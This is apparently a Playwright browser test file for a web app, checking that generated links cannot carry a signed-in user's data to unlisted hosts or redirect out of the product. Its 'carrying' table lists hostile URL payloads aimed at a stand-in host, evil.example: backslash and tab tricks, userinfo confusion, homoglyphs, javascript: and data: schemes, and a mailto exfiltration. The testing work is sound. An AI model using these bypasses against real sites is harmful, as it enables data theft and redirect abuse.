import type { Page } from "playwright-core";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { openPlace } from "../browser/place.ts";
import { go } from "../browser/shell/frame.ts";
import { addPages } from "../browser/shell/own-pages.ts";
import type { Visitor } from "../browser/visitor.ts";

const place = openPlace();
let visitor: Visitor;
let page: Page;
/** The requests that left for another host than the product's. */
const left: { url: string; referrer: string | undefined }[] = [];

/** The text around the data in an address that a page builds. */
type Around = readonly [before: string, after?: string];

/** Addresses that would send data out, to hosts that no list allows or by a trick. */
const carrying: Readonly<Record<string, Around>> = {
  "a host of the page's own": ["https://evil.example/?q="],
  "a host from data": ["https://", ".evil.example/"],
  "no scheme": ["//evil.example/?q="],
  "a backslash for a slash": ["/\\evil.example/?q="],
  "two backslashes": ["\\\\evil.example/?q="],
  "a tab between slashes": ["/\t/evil.example/?q="],
  "a new line in the scheme": ["ht\ntps://evil.example/?q="],
  "a scheme without slashes": ["https:evil.example/?q="],
  "the product's own host as an account": ["https://docs.example.com@evil.example/?q="],
  "data as an account": ["https://", "@docs.example.com/"],
  "a listed host before the true one": ["https://docs.example.com.evil.example/?q="],
  "a listed host after a backslash": ["https://evil.example\\@docs.example.com/?q="],
  "a listed host in the fragment": ["https://evil.example/?q=", "#@docs.example.com"],
  "letters that look like those of a listed host": ["https://dоcs.example.com/?q="],
  "another port of a listed host": ["https://docs.example.com:8443/?q="],
  "a script": ["javascript:location='https://evil.example/?q='+'", "'"],
  "a script with a tab in its scheme": ["java\tscript:location='https://evil.example/'+'", "'"],
  "a document of its own": ["data:text/html,<meta http-equiv=refresh content=0;https:evil/", ">"],
  "a message": ["mailto:mallory@evil.example?body="],
  "a path that steps up before two slashes": ["/points/..//evil.example/?q="],
  "a path that begins with two slashes after a dot": ["/.//evil.example/?q="],
};

/** Addresses that the product itself answers, and that must not redirect elsewhere. */
const inside: Readonly<Record<string, Around>> = {
  "a redirect of the sign-in": ["/login?redirect=%2F%2Fevil.example%2F%3Fq%3D"],
  "a redirect of the sign-in with a scheme": ["/login?redirect=https%3A%2F%2Fevil.example%2F"],
};

const plain = "https://plain.example/guide";

/** A page whose links all lead to the address with data in it. */
function pageOf(title: string, [before, after = ""]: Around): object {
  // The checker cannot know how this address begins; addresses with a known beginning are errors
  // and never drawn.
  const hidden = `(user.username == "" ? "" : ${JSON.stringify(before)})`;
  const around = (data: string) => `${hidden} + encode(${data}) + ${JSON.stringify(after)}`;
  const ofUser = around("user.username");
  const from = { call: "culturalGroup.page" };
  const items = [{ label: "Count", from, value: "data.total", go: ofUser }];
  const table = {
    kind: "table",
    rows: "culturalGroup.page",
    columns: ["name"],
    search: [],
    toolbar: [
      { label: "Above", go: ofUser },
      { label: "Guide", go: `'${plain}'` },
    ],
    rowActions: [{ label: "Look", go: around("row.name") }],
  };
  return { title, body: { kind: "stack", items: [{ kind: "figures", items }, table] } };
}

const links = {
  ...carrying,
  ...inside,
  "a listed host": ["https://docs.example.com/?q="] as const,
};
const addressOf = (name: string) => `/hostile-link-${Object.keys(links).indexOf(name)}`;

beforeAll(async () => {
  visitor = await place.stay();
  page = visitor.page;
  const nodes = Object.keys(links).map((title) => ({
    title,
    routerPath: addressOf(title),
    componentPath: `hostile${addressOf(title)}`,
    isHidden: true,
    noCache: true,
  }));
  const sources = Object.entries(links).map(
    ([title, around]) => [`hostile${addressOf(title)}`, pageOf(title, around)] as const,
  );
  await addPages(visitor, nodes, Object.fromEntries(sources));
  await page.route("**/config.json", async (route) => {
    const config = await (await route.fetch()).json();
    await route.fulfill({ json: { ...config, pages: "server", linkHosts: ["docs.example.com"] } });
  });
  const own = new URL(place.product.url).origin;
  await visitor.context.route(
    (url) => url.origin !== own,
    async (route) => {
      const headers = await route.request().allHeaders();
      left.push({ url: route.request().url(), referrer: headers.referer });
      await route.fulfill({ contentType: "text/html", body: "<title>Outside</title>" });
    },
  );
  await visitor.arriveSignedIn("/dashboard");
});

beforeEach(() => {
  left.length = 0;
});

const open = async (name: string): Promise<void> => {
  await go(visitor, addressOf(name));
  await page.getByRole("heading", { level: 1, name, exact: true }).waitFor();
  await page.getByRole("row").nth(2).waitFor();
};
const said = () => page.getByRole("dialog");
const inRow = () => page.getByRole("row").getByRole("button", { name: "Look" }).first();
const figure = () => page.getByRole("listitem").getByRole("button", { name: /^Count/ });
const above = () => page.getByRole("button", { name: "Above" });

/** Waits for the message that a link shows in place of leading out, and dismisses it. */
async function refused(): Promise<void> {
  await expect.poll(() => said().textContent()).toMatch(/is blocked|does not work/);
  await page.keyboard.press("Escape");
  await said().waitFor({ state: "detached" });
}

describe("a link that would carry data out", () => {
  it.each(Object.keys(carrying))("by %s leads nowhere, however it is pressed", async (name) => {
    await open(name);
    await inRow().click();
    await refused();
    await above().focus();
    await page.keyboard.press("Enter");
    await refused();
    await figure().click({ modifiers: ["ControlOrMeta"] });
    await refused();
    await figure().click({ button: "middle" });
    await figure().click({ modifiers: ["Shift"] });
    await refused();
    expect(visitor.context.pages()).toHaveLength(1);
    expect(left).toEqual([]);
  });

  it.each(Object.keys(inside))("by %s stays in the product", async (name) => {
    await open(name);
    await inRow().click();
    await page.getByRole("heading", { level: 1, name, exact: true }).waitFor({ state: "hidden" });
    await expect.poll(() => new URL(page.url()).origin).toBe(new URL(place.product.url).origin);
    await page.locator("#content").waitFor();
    expect(left).toEqual([]);
  });

  it("says why, and whom to ask for what", async () => {
    await open("a host of the page's own");
    await inRow().click();
    await expect
      .poll(() => said().textContent())
      .toContain("Ask whoever runs this service to add evil.example to LINK_HOSTS.");
    await page.keyboard.press("Escape");
  });
});

describe("a link that leaves", () => {
  it("carries data to a host that is listed, which it names, and tells nothing else", async () => {
    await open("a listed host");
    const opened = visitor.context.waitForEvent("page");
    const button = page.getByRole("button", { name: "Above External link: docs.example.com" });
    await button.click();
    await (await opened).waitForLoadState();
    const url = "https://docs.example.com/?q=admin";
    expect(left).toEqual([{ url, referrer: undefined }]);
    expect(await (await opened).evaluate(() => window.opener === null)).toBe(true);
    await (await opened).close();
    const link = page.getByRole("link", { name: /^Count.*External link: docs.example.com$/ });
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("without data leads anywhere, and names the host before it is pressed", async () => {
    await open("a listed host");
    const opened = visitor.context.waitForEvent("page");
    await page.getByRole("button", { name: "Guide External link: plain.example" }).click();
    await (await opened).waitForLoadState();
    expect(left).toEqual([{ url: plain, referrer: undefined }]);
    await (await opened).close();
  });
});
